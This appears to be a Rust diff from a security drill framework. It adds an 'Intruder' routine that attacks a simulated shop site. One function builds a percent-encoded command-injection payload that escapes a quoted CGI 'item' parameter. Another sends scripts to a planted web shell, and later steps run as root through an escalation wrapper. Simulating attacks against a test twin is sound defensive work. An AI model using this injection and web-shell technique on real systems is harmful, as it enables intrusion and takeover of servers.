@@ -3,11 +3,13 @@
 
 use crate::cast::{Cast, pause, shared};
 use crate::oracle::Truth;
+use crate::outside::Outside;
 use crate::random::Random;
+use crate::scenario::Web;
 use crate::scenario::{Actor, Step};
 use crate::session::Session;
 use crate::twin::Twin;
-use crate::{Error, Result};
+use crate::{Error, Result, interrupt};
 use std::sync::{Mutex, PoisonError};
 use std::time::Duration;
 use thymus_engine::path::HostPath;
@@ -28,10 +30,19 @@ pub(crate) struct Intruder {
 
 impl Intruder {
     /// Goes on until the plan ends or the session does; the latter is what an agent is for.
-    pub(crate) fn attack(&mut self, twin: &Twin, cast: Cast<'_>, turn: &Mutex<()>) -> Result<()> {
+    pub(crate) fn attack(
+        &mut self,
+        twin: &Twin,
+        cast: Cast<'_>,
+        turn: &Mutex<()>,
+        outside: Option<&Outside>,
+    ) -> Result<()> {
         let plan = cast.plan;
         if plan.attack_root.is_empty() {
             return Ok(());
+        }
+        if let (Some(web), Some(outside)) = (&plan.web, outside) {
+            return self.attack_by_requests(outside, web, cast, turn);
         }
         match self.attack_until_stopped(twin, cast, turn) {
             Err(Error::SessionEnded { why, .. }) => {
@@ -67,6 +78,48 @@ impl Intruder {
         Ok(())
     }
 
+    /// The first two steps go through the hole in the site, the others through what they left there. Goes on until the
+    /// plan ends, or a request is not answered to its end.
+    fn attack_by_requests(&mut self, outside: &Outside, web: &Web, cast: Cast<'_>, turn: &Mutex<()>) -> Result<()> {
+        let mut random = Random::new(cast.seed ^ 0x6174_7461_636b_2121);
+        let (plan, token) = (cast.plan, random.word(10));
+        self.token.clone_from(&token);
+        self.began = boot_clock_ns();
+        let record = plan.record.as_deref().unwrap_or("/dev/null");
+        // Whoever becomes root writes where another began: not in a directory that everybody may write to.
+        let books = record.rsplit_once('/').map_or("/dev/shm", |(directory, _)| directory);
+        let as_root = |script: &str| format!("{} <<'AS_ROOT'\n{script}\nAS_ROOT\n", plan.escalation);
+        let user = plan.attack_user.iter().map(|step| (step, false));
+        let root = plan.attack_root.iter().map(|step| (step, true));
+        (cast.tell)(&format!("  the intruder comes from {}, by requests to the site", web.source));
+        for (number, (step, is_root)) in user.chain(root).enumerate() {
+            pause(step.pause)?;
+            interrupt::check()?;
+            (cast.tell)(&format!("  {} ({})", step.title, step.technique.unwrap_or("-")));
+            let paths = step.paths.join(" ");
+            let script = format!(
+                "mkdir -p {books}; umask 0; {}\nsay was {paths} >>{record}\numask 22\n{{ {}\n}} </dev/null\nsay now {paths} >>{record}\necho {token} done",
+                prelude(&token),
+                step.script
+            );
+            let script = if is_root { as_root(&script) } else { script };
+            let request = if number < 2 { injected(&script) } else { sent(&web.shell, &script) };
+            let held = shared(plan, step).then(|| turn.lock().unwrap_or_else(PoisonError::into_inner));
+            let answer = outside.ask(web.source, 8000, &request, STOPPED_LIMIT);
+            drop(held);
+            let over = match answer {
+                Ok(answer) if answer.contains(&format!("{token} done")) => None,
+                Ok(answer) => Some(answer.lines().last().unwrap_or("no answer").to_owned()),
+                Err(error) => Some(error.to_string()),
+            };
+            if let Some(why) = over {
+                (cast.tell)(&format!("  the intruder's requests are not answered any more: {why}"));
+                return Ok(());
+            }
+        }
+        Ok(())
+    }
+
     /// The twin boots again: what has the session's name then is another.
     pub(crate) fn forget_session(&mut self) {
         self.group.clear();
@@ -87,6 +140,18 @@ impl Intruder {
             session.close();
         }
     }
+}
+
+/// A question about the stock that ends early and goes on as a command.
+fn injected(script: &str) -> Vec<u8> {
+    let item = format!("x\" /dev/null; {script}\n: \"");
+    let item: String = item.bytes().map(|byte| format!("%{byte:02x}")).collect();
+    format!("GET /cgi-bin/stock?item={item} HTTP/1.0\r\nHost: shop\r\n\r\n").into_bytes()
+}
+
+fn sent(shell: &str, script: &str) -> Vec<u8> {
+    let length = script.len();
+    format!("POST /{shell} HTTP/1.0\r\nHost: shop\r\nContent-Length: {length}\r\n\r\n{script}").into_bytes()
 }
 
 /// Functions by which the intruder's shell keeps the drill's record of what it touches.
